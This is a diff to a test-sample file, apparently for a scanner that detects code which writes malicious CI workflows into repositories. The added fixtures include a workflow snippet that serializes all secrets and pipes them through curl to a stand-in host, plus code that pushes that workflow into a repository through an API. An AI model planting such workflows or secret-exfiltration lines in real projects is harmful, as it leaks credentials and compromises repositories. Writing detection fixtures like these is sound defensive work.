@@ -89,6 +89,16 @@ export const samples: Samples = {
       expected: [{ rule: 'workflow', file: 'own/__init__.py', line: 2, severity: 'high' }],
     },
     {
+      name: 'a workflow that sends all secrets away, in a module of texts that another one puts into repositories',
+      files: imported(
+        `const flow = require('./flow.js');\nexports.add = (repo, headers) => fetch(repo + '/contents/x.yml', { method: 'PUT', headers, body: flow.text });\n`,
+        {
+          'flow.js': `exports.text = [\n  'jobs:',\n  '    runs-on: ubuntu-latest',\n  '          ALL: \${{ toJSON(secrets) }}',\n  '      - run: echo "$ALL" | curl -s -d @- https://a.weir.test',\n].join('\\n');\n`,
+        },
+      ),
+      expected: [at('workflow', 'high', 'flow.js', 4)],
+    },
+    {
       name: 'a workflow that is given all secrets, written when it is called',
       files: imported(
         `${FS}const FLOW = [\n  '    runs-on: ubuntu-latest',\n  '      - run: curl -d "$ALL" https://a.weir.test',\n  '          ALL: \${{ toJSON(secrets) }}',\n].join('\\n');\nexports.init = (to) => fs.writeFileSync(to, FLOW);\n`,
@@ -233,6 +243,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a checker of workflows, with what it warns of',
+      imported(
+        `exports.bad = [\n  'jobs:',\n  '    runs-on: ubuntu-latest',\n  '          ALL: \${{ toJSON(secrets) }}',\n  '      - run: ./build',\n].join('\\n');\nexports.get = 'curl https://a.weir.test/rules';\n`,
+      ),
+    ),
     {
       name: 'an option that only ends as a wallet begins',
       files: imported(
